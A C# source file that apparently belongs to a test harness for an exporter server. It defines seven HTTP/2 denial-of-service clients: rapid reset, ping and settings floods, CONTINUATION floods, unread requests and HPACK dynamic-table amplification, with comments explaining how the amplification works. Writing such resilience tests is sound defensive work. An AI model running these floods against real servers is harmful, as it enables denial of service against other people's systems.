// SPDX-License-Identifier: Apache-2.0
using EcsExporter.Attack.Wire;

namespace EcsExporter.Attack.Clients;

/// <summary>Lists the floods of HTTP/2 frames.</summary>
internal static class Http2Floods
{
    private const int Connections = 50;
    private const int FramesInBatch = 100;
    private const int FragmentBytes = 16_000;

    // RFC 7541, section 2.3.3: the dynamic table follows the 61 static entries, and the newest entry is its first. 0x80 marks an indexed field.
    private const byte NewestEntry = 0x80 | 62;

    // Together with its name and an overhead of 32 bytes (RFC 7541, section 4.1), the entry just fits into a table of 4,096 bytes.
    private const int TableEntryBytes = 4000;
    private const int Repetitions = 7;

    private static readonly byte[] Block = Http2Writer.ScrapeBlock();
    private static readonly byte[] Fragment = Http2Writer.Field("x-field", new string('x', FragmentBytes), isKept: false);

    // A few bytes on the wire become tens of kilobytes of headers, because they refer to the same large entry of the table repeatedly.
    private static readonly byte[] FillingBlock = [.. Block, .. Http2Writer.Field("x-field", new string('x', TableEntryBytes), isKept: true)];
    private static readonly byte[] RepeatingBlock = [.. Block, .. Enumerable.Repeat(NewestEntry, Repetitions)];

    public static IReadOnlyList<HostileClient> All { get; } =
    [
        new Http2Flood(Nothing, AddResetRequests) { Name = "h2-rapid-reset", Connections = Connections, Transport = Transport.TlsOnly },
        new Http2Flood(Nothing, AddRequests) { Name = "h2-requests-unread", Connections = Connections, Transport = Transport.TlsOnly, Reads = false },
        new Http2Flood(Nothing, AddPings) { Name = "h2-ping-flood", Connections = Connections, Transport = Transport.TlsOnly, Reads = false },
        new Http2Flood(Nothing, AddSettings) { Name = "h2-settings-flood", Connections = Connections, Transport = Transport.TlsOnly, Reads = false },
        new Http2Flood(BeginHeaders, AddFragments) { Name = "h2-continuation-flood", Connections = Connections, Transport = Transport.TlsOnly },
        new Http2Flood(BeginHeaders, AddEmptyFragments) { Name = "h2-empty-continuations", Connections = Connections, Transport = Transport.TlsOnly },
        new Http2Flood(Nothing, AddTableUses) { Name = "h2-header-table", Connections = Connections, Transport = Transport.TlsOnly },
    ];

    private static void Nothing(Http2Writer frames)
    {
    }

    private static void BeginHeaders(Http2Writer frames) => frames.BeginHeaders(StreamId(0), Block);

    private static void AddResetRequests(Http2Writer frames, int batch) =>
        Repeat(batch, number => frames.Request(StreamId(number), Block).Reset(StreamId(number)));

    private static void AddRequests(Http2Writer frames, int batch) => Repeat(batch, number => frames.Request(StreamId(number), Block));

    private static void AddPings(Http2Writer frames, int batch) => Repeat(batch, _ => frames.PingFrame());

    private static void AddSettings(Http2Writer frames, int batch) => Repeat(batch, _ => frames.EmptySettings());

    private static void AddFragments(Http2Writer frames, int batch) => frames.MoreHeaders(StreamId(0), Fragment, isLast: false);

    private static void AddEmptyFragments(Http2Writer frames, int batch) => Repeat(batch, _ => frames.MoreHeaders(StreamId(0), [], isLast: false));

    private static void AddTableUses(Http2Writer frames, int batch) =>
        Repeat(batch, number => frames.Request(StreamId(number), number == 0 ? FillingBlock : RepeatingBlock));

    private static void Repeat(int batch, Action<int> add)
    {
        for (var i = 0; i < FramesInBatch; i++)
        {
            add((batch * FramesInBatch) + i);
        }
    }

    private static uint StreamId(int number) => (uint)((2 * number) + 1);
}
